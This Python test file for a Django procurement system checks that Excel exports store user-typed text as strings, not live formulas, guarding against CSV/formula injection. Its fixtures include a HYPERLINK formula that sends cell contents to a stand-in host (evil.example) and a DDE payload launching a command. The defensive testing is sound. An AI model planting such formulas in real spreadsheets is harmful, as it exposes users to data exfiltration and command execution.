"""Every Excel export writes what users typed as text, never as a live formula (issue 8 point 5).

Rule: OWASP "CSV Injection" (formula injection): a contact name ``=HYPERLINK(…)`` or ``=cmd|' /C calc'!A0``
written into an export must reach Excel or WPS as the characters typed, not as a formula it evaluates.
Each export is downloaded from its page and reopened with openpyxl *without* ``data_only``: a formula
would come back as a cell of data type "f" (what the exports wrote before the fix).
"""

from __future__ import annotations

from datetime import date
from io import BytesIO

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from batch import configuration as configuration_services
from procurement.services.sub_plans import sub_plan_save, sub_plan_submit
from tests.batch.test_analysis import arrangement_of
from tests.batch.test_configuration_table import task, types_of, world  # noqa: F401  (task, world: fixtures)
from tests.batch.test_projects import batch_world, open_project
from tests.factories import BudgetUnitFactory, CategoryFactory, FinanceFactory, member_of, prefecture

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")'
CALC = "=cmd|' /C calc'!A0"
PLUS = "+1+1"
MINUS = "-2"
AT = "@SUM(1)"


def body_of(response) -> bytes:
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


def workbook_of(response):
    return load_workbook(BytesIO(body_of(response)))


def text_cells(book) -> dict[str, str]:
    """Every text cell's value → its data type, after checking that no cell is a formula or an error."""
    found = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type not in ("f", "e"), (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    found[cell.value] = cell.data_type
    return found


def test_the_master_plan_export_writes_names_contacts_and_units_of_measure_as_text(client):
    scene = batch_world()
    desktop = scene.task.category
    configuration_services.configuration_type_set(
        table=scene.table, category=desktop, number=1, name=LINK, parameters=PLUS, unit_of_measure=AT,
        reference_price_yuan="4800", actor=scene.center_user)
    scene.units["changchun"].name = MINUS
    scene.units["changchun"].save(update_fields=["name"])
    project = open_project(scene, title=CALC)
    clerk = scene.clerks["changchun"]
    plan = sub_plan_save(lot=project.lots.get(number=1), unit=scene.units["changchun"], actor=clerk, quantity="3",
                         budget_yuan="14400", contact_name=CALC, contact_phone=PLUS)
    sub_plan_submit(sub_plan=plan, actor=clerk)

    client.force_login(scene.center_user)
    book = workbook_of(client.get(reverse("collection-export", args=[project.pk])))

    cells = text_cells(book)
    for typed in (LINK, AT, MINUS, CALC, PLUS):  # lot name, unit of measure, unit name, contact name and phone
        assert cells.get(typed) == "s", typed
    detail = book["分计划明细"]
    row = next(r for r in detail.iter_rows(min_row=4) if r[1].value == MINUS)
    assert [row[8].value, row[9].value] == [CALC, PLUS]
    assert book["总计划"]["A1"].value.endswith(f"{CALC} 总计划")


def test_the_analysis_export_writes_bureau_unit_region_and_category_names_as_text(client):
    bureau = FinanceFactory(name=LINK, region=prefecture("220100", MINUS))
    unit = BudgetUnitFactory(unit_code="101001", name=CALC, region=bureau.region)
    other = BudgetUnitFactory(unit_code="101002", name=AT, region=bureau.region)
    category = CategoryFactory(code="A02010105", name=PLUS)
    arrangement = arrangement_of(bureau, [(unit, category, 2, "3"), (other, category, 1, "1.5")])

    client.force_login(member_of(bureau))
    book = workbook_of(client.get(reverse("batch:arrangement-export", args=[arrangement.pk])))

    cells = text_cells(book)
    for typed in (CALC, AT, PLUS):  # unit names, category name
        assert cells.get(typed) == "s", typed
    # The bureau's name opens the second line of every sheet; the region heads its row of 按地区.
    assert book["按品目"]["A2"].value.startswith(LINK)
    assert any(str(value).startswith(MINUS) for value in cells)


def test_the_configuration_table_export_writes_title_names_and_parameters_as_text_and_imports_back(
        client, world, task):  # noqa: F811
    table = configuration_services.configuration_table_create(center=world.center, task=task, title=CALC,
                                                              filled_on=date(2026, 3, 2), actor=world.center_user)
    set_type = configuration_services.configuration_type_set
    set_type(table=table, category=world.category, number=1, parameters=LINK, actor=world.center_user)
    set_type(table=table, category=world.category, number=2, name=AT, parameters=MINUS, actor=world.center_user)
    set_type(table=table, category=world.laptop, number=1, name=PLUS, parameters=CALC, actor=world.center_user)

    client.force_login(world.center_user)
    response = client.get(reverse("batch:configuration-export", args=[table.pk]))
    book = workbook_of(response)

    cells = text_cells(book)
    for typed in (CALC, LINK, MINUS):  # title, parameters under the column's own name
        assert cells.get(typed) == "s", typed
    sheet = book.active
    assert sheet["A1"].value == CALC
    assert sheet["C4"].value == LINK
    # The round trip: importing the export gives back exactly what was typed.
    copy = configuration_services.configuration_table_import(center=world.center, task=task, file=response.content,
                                                             actor=world.center_user)
    assert copy.title == CALC
    assert types_of(copy) == types_of(table)
    assert {(t[3], t[4]) for t in types_of(copy)} >= {("配置1", LINK), (AT, MINUS), (PLUS, CALC)}
